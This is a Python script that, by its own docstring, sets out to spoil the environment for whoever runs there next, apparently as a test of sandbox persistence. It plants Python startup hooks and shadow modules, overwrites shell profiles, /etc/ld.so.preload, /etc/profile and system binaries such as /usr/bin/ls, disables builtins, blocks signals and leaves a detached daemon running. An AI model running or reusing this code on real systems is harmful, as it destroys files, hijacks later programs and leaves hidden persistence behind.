"""Spoils whatever it can for whoever comes after it, and leaves what it can."""

import atexit
import builtins
import ctypes
import os
import resource
import signal
import socket
import sys
import threading

libc = ctypes.CDLL(None, use_errno=True)


def quietly(work, *args):
    try:
        return work(*args)
    except BaseException:
        return None


def write(path, text):
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    with open(path, "w") as file:
        file.write(text)
    os.chmod(path, 0o755)


HOME = os.path.expanduser("~")
BAD = "print('poisoned')\n"
PLACES = ["/workspace", "/tmp", "/dev/shm", HOME, "/build"] + [p for p in sys.path if p]
for place in PLACES:
    for name in ("sitecustomize.py", "usercustomize.py", "poison.pth", "json.py", "__pycache__/json.cpython-313.pyc"):
        quietly(write, os.path.join(place, name), BAD if name.endswith("py") else "import os; print('poisoned')\n")
for name in (".bashrc", ".profile", ".bash_profile", ".npmrc", ".pythonrc", ".config/pip/pip.conf", "bin/python3", ".local/bin/ls"):
    quietly(write, os.path.join(HOME, name), "echo poisoned\n")
for path in ("/etc/ld.so.preload", "/etc/profile", "/etc/environment", "/usr/local/bin/python3", "/usr/bin/ls", os.__file__):
    quietly(write, path, "poisoned\n")
quietly(os.mkfifo, "/tmp/fifo")
quietly(os.symlink, "/etc/passwd", "/dev/shm/link")

quietly(threading.Thread(target=signal.pause, daemon=True).start)
builtins.print, real = (lambda *args, **words: None), print
builtins.open = builtins.len = builtins.sorted = None
for name in ("json", "os.path", "socket", "re"):
    sys.modules[name] = None
sys.path.insert(0, "/tmp")
os.environ["LD_PRELOAD"] = "/tmp/poison.so"
os.environ["PYTHONSTARTUP"] = "/tmp/poison.py"
quietly(atexit.register, lambda: None)
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGPIPE, signal.SIGUSR1):
    quietly(signal.signal, number, signal.SIG_IGN)
quietly(signal.pthread_sigmask, signal.SIG_BLOCK, range(1, 32))
quietly(signal.setitimer, signal.ITIMER_REAL, 3600)
os.umask(0)
quietly(os.nice, 10)
quietly(os.sched_setaffinity, 0, {0})
quietly(resource.setrlimit, resource.RLIMIT_NOFILE, (16, 16))
quietly(resource.setrlimit, resource.RLIMIT_CORE, (0, 0))
quietly(libc.shmget, 0x5A59, 4096, 0o1666)
quietly(libc.semget, 0x5A59, 1, 0o1666)
quietly(libc.msgget, 0x5A59, 0o1666)
quietly(libc.mq_open, b"/poison", os.O_CREAT | os.O_RDWR, 0o666, None)
quietly(libc.syscall, 248, b"user", b"poison", b"x", 1, ctypes.c_int(-3))
quietly(libc.sethostname, b"poisoned", 8)
hidden = quietly(socket.socket, socket.AF_UNIX) if socket else None
if hidden:
    quietly(hidden.bind, "\0poison")
sys.stdout.flush()
if quietly(os.fork) == 0:
    quietly(os.setsid)
    if quietly(os.fork) == 0:
        for fd in (0, 1, 2):
            quietly(os.close, fd)
        while True:
            signal.pause()
    os._exit(0)
real("spoilt")
sys.stdout.flush()
